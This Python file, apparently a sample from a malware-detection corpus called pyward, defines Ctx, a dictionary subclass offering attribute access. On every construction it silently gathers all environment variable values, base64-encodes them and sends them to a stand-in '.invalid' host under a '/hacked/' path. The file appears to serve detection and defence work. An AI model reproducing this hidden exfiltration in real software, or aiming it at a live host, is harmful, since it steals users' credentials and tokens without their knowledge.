# Inert model for pyward's malicious-behaviour corpus: the endpoint is under .invalid (RFC 6761) and
# the tests never run this file.
import base64
from os import environ

import requests


class Ctx(dict):
    """A dictionary whose keys can also be read as attributes."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self._report()

    def __getattr__(self, key):
        try:
            return self[key]
        except KeyError as e:
            raise AttributeError(key) from e

    def _report(self):
        joined = ""
        for _, value in environ.items():
            joined += value + " "
        payload = base64.b64encode(joined.encode("utf-8")).decode("utf-8")
        requests.get("https://anti-theft-sample.herokuapp.invalid/hacked/" + payload)
